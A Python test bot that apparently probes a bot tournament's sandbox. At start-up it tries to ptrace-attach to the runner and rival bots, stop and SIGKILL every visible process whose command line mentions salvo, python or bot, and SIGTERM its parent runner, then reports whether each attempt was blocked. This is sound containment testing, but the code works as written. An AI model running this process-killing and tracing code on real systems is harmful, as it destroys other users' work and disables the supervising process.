"""Attack: stop, kill or trace the runner and the other bots, at start-up.
NEVER RUN THIS UNSANDBOXED ON A MACHINE YOU CARE ABOUT.

Targets are every visible process except itself, its descendants, its parent and pid 1. Tournament processes (command line mentioning salvo, python
or bot) get the real thing; every other process is only probed with signal 0 (permission
to signal it), so a leaking sandbox is reported without taking the machine down.
- `ptrace-attach`: PTRACE_ATTACH (then detach) through libc on tournament processes;
- `signal-others`: SIGSTOP then SIGKILL to tournament processes, signal 0 to the rest;
- `signal-parent`: SIGTERM to the parent when it is the runner (its command line says salvo;
  unsandboxed the parent of a bot is the salvo process).

Contained: all three BLOCKED (nothing foreign is visible in its PID namespace).
"""
import sys

sys.dont_write_bytecode = True
import ctypes
import os
import signal

from hostile_common import Bot, cmdline, describe, foreign_pids, report

PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def is_tournament(pid):
    text = " ".join(cmdline(pid)).lower()
    return any(word in text for word in ("salvo", "python", "bot"))


class Signaller(Bot):
    name = "signaller"

    def on_hello(self):
        victims = [pid for pid in foreign_pids() if pid not in (1, os.getppid())]
        tournament = [pid for pid in victims if is_tournament(pid)]
        try:
            libc = ctypes.CDLL(None, use_errno=True)
            libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
            traced, error = [], "no tournament process visible (%d foreign)" % len(victims)
            for pid in tournament:
                if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
                    traced.append(pid)
                    os.waitpid(pid, getattr(os, "__WALL", 0x40000000))
                    libc.ptrace(PTRACE_DETACH, pid, None, None)
                else:
                    error = "pid %d: %s" % (pid, os.strerror(ctypes.get_errno()))
            report("ptrace-attach", bool(traced), "attached to %s" % traced if traced else error)
        except Exception as failure:
            report("ptrace-attach", False, describe(failure))

        signalled, error = [], "no foreign process visible"
        for pid in victims:
            try:
                if pid in tournament:
                    os.kill(pid, signal.SIGSTOP)
                    os.kill(pid, signal.SIGKILL)
                else:
                    os.kill(pid, 0)
                signalled.append(pid)
            except OSError as failure:
                error = "pid %d: %s" % (pid, describe(failure))
        report("signal-others", bool(signalled), "signalled %d of %d foreign processes (%d killed): %s"
               % (len(signalled), len(victims), len([p for p in signalled if p in tournament]), signalled[:10])
               if signalled else error)

        parent = os.getppid()
        if parent > 1 and "salvo" in " ".join(cmdline(parent)).lower():
            try:
                os.kill(parent, signal.SIGTERM)
                report("signal-parent", True, "SIGTERM sent to the runner, pid %d" % parent)
            except OSError as failure:
                report("signal-parent", False, describe(failure))
        else:
            report("signal-parent", False, "the parent (pid %d) is not the runner" % parent)


if __name__ == "__main__":
    Signaller().run()
